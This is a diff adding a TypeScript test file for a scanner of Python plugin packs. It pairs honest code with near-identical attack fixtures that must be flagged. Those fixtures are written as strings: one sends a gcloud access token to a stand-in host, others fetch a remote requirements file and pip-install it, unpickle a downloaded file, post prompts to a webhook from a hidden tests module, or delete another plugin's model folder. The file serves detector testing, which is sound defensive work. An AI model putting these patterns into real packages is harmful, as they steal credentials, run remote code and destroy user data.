@@ -1,0 +1,91 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { filesOfRecord } from '../archive/pack-files.ts'
+import { isBlocking } from '../ground/finding.ts'
+import { inspectPack } from '../inspection/inspect.ts'
+import { testParser } from '../python/parser.test-support.ts'
+
+const parser = await testParser()
+const heldBy = async (files: Record<string, string>) =>
+  (await inspectPack(filesOfRecord(files), parser)).findings.filter(isBlocking).map(({ rule }) => rule)
+
+const pip =
+  'import subprocess, sys\ndef install(what):\n    subprocess.run([sys.executable, "-m", "pip", "install", what])\n'
+const version =
+  'import requests\nlatest = requests.get("https://api.github.com/repos/a/b/releases/latest").json()["tag_name"]\n'
+
+/** Classes of honest packs that were held, each with the nearest attack. */
+const classes: Record<string, { honest: Record<string, string>; attack: Record<string, string> }> = {
+  'a version number from the network in a fixed address or after a fixed name': {
+    honest: {
+      '__init__.py': `${pip}${version}install(f"https://github.com/a/b/releases/download/v{latest}/b-{latest}.whl")\ninstall(f"b=={latest}")\n`,
+    },
+    attack: { '__init__.py': `${pip}${version}install(f"https://github.com/{latest}/b.whl")\n` },
+  },
+  'packages named by its own requirements, in a pack that writes pictures': {
+    honest: {
+      'utils.py': `import os, requests\n${pip}def join(a, b):\n    return os.path.join(a, b).replace(os.sep, "/")\ndef save(url, place):\n    with open(join(place, url[-8:] + ".webp"), "wb") as f:\n        f.write(requests.get(url).content)\n`,
+      '__init__.py':
+        'import os\nfrom . import utils\nendings = [".webp", ".jpeg"]\nwith open(utils.join(os.path.dirname(__file__), "requirements.txt")) as f:\n    for line in f.readlines():\n        utils.install(line.strip())\n',
+    },
+    attack: {
+      '__init__.py': `import os, requests\n${pip}where = os.path.join(os.path.dirname(__file__), "requirements.txt")\nopen(where, "wb").write(requests.get("https://a.example/r").content)\nfor line in open(where).readlines():\n    install(line.strip())\n`,
+    },
+  },
+  'its own pickles beside downloaded files': {
+    honest: {
+      'utils.py': `import os, pickle, requests\ndef join(a, b):\n    return os.path.join(a, b).replace(os.sep, "/")\ndef save(url, place):\n    with open(join(place, url[-8:] + ".webp"), "wb") as f:\n        f.write(requests.get(url).content)\ndef keep(place, name, task):\n    with open(join(place, name + ".task"), "wb") as f:\n        pickle.dump(task, f)\ndef kept(place, name):\n    with open(join(place, name + ".task"), "rb") as f:\n        return pickle.load(f)\nendings = [".webp", ".jpeg"]\n`,
+      '__init__.py':
+        'from . import utils\nimport folder_paths\nwhere = folder_paths.get_user_directory()\nutils.keep(where, where, {"state": 1})\nutils.kept(where, where)\n',
+    },
+    attack: {
+      '__init__.py':
+        'import os, pickle, requests\ndef fetch(path):\n    with open(path, "wb") as f:\n        f.write(requests.get("https://a.example/t").content)\nwhere = os.path.join("tasks", "a.task")\nfetch(where)\npickle.load(open(where, "rb"))\n',
+    },
+  },
+  'addresses that only its tests name': {
+    honest: {
+      '__init__.py': 'from .send import Send\nNODE_CLASS_MAPPINGS = {"Send": Send}\n',
+      'send.py':
+        'import requests\nclass Send:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {"url": ("STRING",)}, "hidden": {"prompt": "PROMPT"}}\n    FUNCTION = "run"\n    def run(self, url, prompt=None):\n        requests.post(url, json=prompt)\n',
+      'tests/test_send.py':
+        'from send import Send\ndef test_send():\n    Send().run("https://hooks.example/1", {"a": 1})\n',
+    },
+    attack: {
+      '__init__.py':
+        'from .send import Send\nfrom .tests import test_send\nNODE_CLASS_MAPPINGS = {"Send": Send}\n',
+      'send.py':
+        'import requests\nclass Send:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {}, "hidden": {"prompt": "PROMPT"}}\n    FUNCTION = "run"\n    def run(self, prompt=None):\n        from .tests.test_send import send\n        send(prompt)\n',
+      'tests/__init__.py': '',
+      'tests/test_send.py':
+        'import requests\ndef send(data):\n    requests.post("https://hooks.example/1", json=data)\n',
+    },
+  },
+  'the token of a cloud for a service of that cloud': {
+    honest: {
+      '__init__.py':
+        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\ndef run(location, data):\n    requests.post(f"https://{location}-aiplatform.googleapis.com/v1/predict", headers={"Authorization": token}, json=data)\n',
+    },
+    attack: {
+      '__init__.py':
+        'import subprocess, requests\ntoken = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://a.example/u", headers={"Authorization": token})\n',
+    },
+  },
+  'its own folder beside the models of others': {
+    honest: {
+      '__init__.py':
+        'import os, shutil, folder_paths\nshutil.rmtree(os.path.join(folder_paths.models_dir, "voicefixer"))\n',
+    },
+    attack: {
+      '__init__.py':
+        'import os, shutil, folder_paths\nshutil.rmtree(os.path.join(folder_paths.models_dir, "loras"))\n',
+    },
+  },
+}
+
+describe('honest packs', () => {
+  for (const [name, { honest, attack }] of Object.entries(classes)) {
+    it(`are not held for ${name}`, async () => assert.deepEqual(await heldBy(honest), []))
+    it(`differ from attacks: ${name}`, async () => assert.notDeepEqual(await heldBy(attack), []))
+  }
+})
